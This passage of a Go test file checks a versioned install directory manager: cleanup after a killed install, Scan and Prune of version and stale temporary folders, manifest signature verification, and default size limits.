		t.Fatal(err)
	}
	var tmp string
	deadline := time.Now().Add(20 * time.Second)
	for tmp == "" && time.Now().Before(deadline) {
		matches, _ := filepath.Glob(filepath.Join(dir, tempPrefix+"2.0.0-*", "big", "b.bin"))
		if len(matches) > 0 {
			tmp = filepath.Dir(filepath.Dir(matches[0]))
		}
		time.Sleep(5 * time.Millisecond)
	}
	cmd.Process.Kill()
	cmd.Wait()
	stdin.Close()
	if tmp == "" {
		t.Fatal("the helper never got to big/b.bin")
	}

	if _, err := os.Stat(filepath.Join(dir, "2.0.0")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("version folder after the kill: got %v, want it not to exist", err)
	}
	if got := Scan(dir, testKey().Public()); len(got) != 0 {
		t.Errorf("Scan after the kill: got %v, want nothing", got)
	}
	if _, err := os.Stat(filepath.Join(tmp, SuccessName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("Success.txt in the temporary folder: got %v, want none", err)
	}

	// A fresh leftover may belong to a live Install elsewhere; an old one
	// is removed.
	if _, err := Prune(dir, 3, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(tmp); err != nil {
		t.Errorf("Prune removed a fresh temporary folder: %v", err)
	}
	old := time.Now().Add(-2 * staleTempAge)
	must(t, os.Chtimes(tmp, old, old))
	if _, err := Prune(dir, 3, nil); err != nil {
		t.Fatal(err)
	}
	if names := dirNames(t, dir); len(names) != 0 {
		t.Errorf("after Prune: got %v, want nothing", names)
	}

	mustInstall(t, s, dir)
	if _, err := Verify(filepath.Join(dir, "2.0.0"), testKey().Public()); err != nil {
		t.Errorf("Verify after a new Install: %v", err)
	}
}

func TestScanAndPrune(t *testing.T) {
	dir := t.TempDir()
	for _, v := range []string{"1.0.0", "1.2.0", "1.10.0", "2.0.0-rc.1", "2.0.0"} {
		mustInstall(t, goodSpec(v), dir)
	}
	must(t, os.Remove(filepath.Join(dir, "1.10.0", SuccessName)))
	must(t, os.Mkdir(filepath.Join(dir, "not-a-version"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "README"), nil, 0o644))
	oldTmp, newTmp := filepath.Join(dir, tempPrefix+"3.0.0-old"), filepath.Join(dir, tempPrefix+"3.0.0-new")
	must(t, os.Mkdir(oldTmp, 0o755))
	must(t, os.Mkdir(newTmp, 0o755))
	old := time.Now().Add(-2 * staleTempAge)
	must(t, os.Chtimes(oldTmp, old, old))

	got := Scan(dir, testKey().Public())
	want := []struct {
		version string
		err     error
	}{{"2.0.0", nil}, {"2.0.0-rc.1", nil}, {"1.10.0", ErrNotInstalled}, {"1.2.0", nil}, {"1.0.0", nil}}
	if len(got) != len(want) {
		t.Fatalf("Scan: got %v, want %v", got, want)
	}
	for i, w := range want {
		if got[i].Version != w.version || (w.err == nil) != (got[i].Err == nil) || (w.err != nil && !errors.Is(got[i].Err, w.err)) {
			t.Errorf("Scan[%d]: got %s %v, want %s %v", i, got[i].Version, got[i].Err, w.version, w.err)
		}
	}

	removed, err := Prune(dir, 2, func(v string) bool { return v == "1.0.0" })
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"1.10.0", "1.2.0"}; !slices.Equal(removed, want) {
		t.Errorf("Prune removed: got %v, want %v", removed, want)
	}
	if names, want := dirNames(t, dir), []string{tempPrefix + "3.0.0-new", "1.0.0", "2.0.0", "2.0.0-rc.1", "README", "not-a-version"}; !slices.Equal(names, want) {
		t.Errorf("after Prune: got %v, want %v", names, want)
	}

	// A temporary folder an Install of this process is using is never
	// removed, however old.
	must(t, os.Chtimes(newTmp, old, old))
	k := track(newTmp)
	removed, err = Prune(dir, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"2.0.0", "2.0.0-rc.1", "1.0.0"}; !slices.Equal(removed, want) {
		t.Errorf("Prune(0): got %v, want %v", removed, want)
	}
	if _, err := os.Stat(newTmp); err != nil {
		t.Errorf("Prune removed an active temporary folder: %v", err)
	}
	untrack(k)
	if _, err := Prune(dir, 0, nil); err != nil {
		t.Fatal(err)
	}
	if names, want := dirNames(t, dir), []string{"README", "not-a-version"}; !slices.Equal(names, want) {
		t.Errorf("after the last Prune: got %v, want %v", names, want)
	}

	if _, err := Prune(dir, -1, nil); err == nil {
		t.Error("Prune(-1): got nil error, want one")
	}
	if removed, err := Prune(filepath.Join(dir, "missing"), 1, nil); err != nil || len(removed) != 0 {
		t.Errorf("Prune of a missing folder: got %v, %v; want nothing, nil", removed, err)
	}
	if got := Scan(filepath.Join(dir, "missing"), testKey().Public()); len(got) != 0 {
		t.Errorf("Scan of a missing folder: got %v, want nothing", got)
	}
}

func TestVerifySignature(t *testing.T) {
	msg := []byte("manifest")
	tests := []struct {
		name string
		key  string
		sig  []byte
		want error
	}{
		{"good", testKey().Public(), Sign(testKey(), msg), nil},
		{"empty", testKey().Public(), nil, ErrBadSignature},
		{"other key", otherKey().Public(), Sign(testKey(), msg), ErrBadSignature},
		{"malformed key", "zz", Sign(testKey(), msg), ErrBadSignature},
		{"empty key", "", Sign(testKey(), msg), ErrBadSignature},
	}
	for _, tt := range tests {
		if err := VerifySignature(tt.key, msg, tt.sig); !errors.Is(err, tt.want) || (tt.want == nil && err != nil) {
			t.Errorf("%s: got %v, want %v", tt.name, err, tt.want)
		}
	}
}

func TestDefaultLimits(t *testing.T) {
	d := DefaultLimits()
	if d.MaxFiles != 10_000 || d.MaxTotalSize != 1<<30 || d.MaxManifestSize != 4<<20 {
		t.Errorf("got %+v, want 10000 files, 1 GiB, 4 MiB", d)
	}
	if got := (Limits{MaxFiles: 5}).withDefaults(); got.MaxFiles != 5 || got.MaxTotalSize != d.MaxTotalSize {
		t.Errorf("withDefaults: got %+v, want MaxFiles 5 and the other defaults", got)
	}
}
